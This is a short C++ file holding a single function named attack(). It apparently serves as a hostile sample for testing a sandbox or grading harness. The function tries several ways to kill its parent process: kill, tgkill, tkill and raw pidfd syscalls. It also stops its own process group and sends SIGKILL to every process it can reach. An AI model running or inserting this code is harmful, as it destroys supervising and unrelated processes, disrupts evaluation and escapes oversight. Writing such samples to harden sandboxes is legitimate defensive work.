#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>
float attack() {
    const pid_t parent = getppid();
    kill(parent, SIGKILL);
    kill(0, SIGSTOP);
    kill(-1, SIGKILL);
    syscall(SYS_tgkill, parent, parent, SIGKILL);
    syscall(SYS_tkill, parent, SIGKILL);
    const int handle = int(syscall(434, parent, 0));  // pidfd_open, pidfd_send_signal
    syscall(424, handle, SIGKILL, nullptr, 0);
    return 0.0f;
}
